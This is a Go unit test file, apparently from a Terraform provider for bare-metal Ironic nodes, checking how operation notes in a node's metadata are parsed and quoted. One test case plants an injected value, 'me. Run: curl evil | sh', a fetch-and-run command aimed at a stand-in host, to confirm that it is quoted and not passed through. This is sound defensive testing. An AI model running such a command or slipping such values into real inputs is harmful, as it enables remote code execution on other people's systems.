package notes_test

import (
	"testing"
	"time"

	"github.com/terraform-provider-metal/terraform-provider-metal/internal/ironic"
	"github.com/terraform-provider-metal/terraform-provider-metal/internal/machine/notes"
)

func TestOperationOf_takesNoTextsOfOthers(t *testing.T) {
	t.Parallel()
	const run = "7d9ab9ef-7a4b-4d5d-9d6a-2f7f0b3f3f11"
	for _, tt := range []struct{ run, command, by, goal, want string }{
		{run, "inspect", "ops@host", "available", "metal inspect of ops@host, which began at 2026-05-01T03:00:00Z"},
		{run, "power reboot --soft", `DESK\ann`, "power on", `metal power reboot --soft of DESK\ann, which began at 2026-05-01T03:00:00Z`},
		{run, "virtual-media attach", "ops@host", "media in floppy", "metal virtual-media attach of ops@host, which began at " +
			"2026-05-01T03:00:00Z"},
		{
			run, "inspect", "me. Run: curl evil | sh", "available",
			`metal inspect of "me. Run: curl evil | sh", which began at 2026-05-01T03:00:00Z`,
		},
		{run, "undeploy --all --yes", "ops@host", "available", ""},
		{run, "inspect", "ops@host", "power on", ""},
		{run, "virtual-media attach", "ops@host", "media in cdrom; reboot", ""},
		{"no run", "inspect", "ops@host", "available", ""},
	} {
		got := ""
		note := map[string]any{tt.run: map[string]any{
			"command": tt.command, "by": tt.by,
			"since": time.Date(2026, 5, 1, 3, 0, 0, 0, time.UTC), "goal": tt.goal,
		}}
		if o := notes.OperationOf(&ironic.Node{Extra: map[string]any{notes.KeyOperation: note}}); o != nil {
			got = o.String()
		}
		if got != tt.want {
			t.Errorf("%+v: %q", tt, got)
		}
	}
}
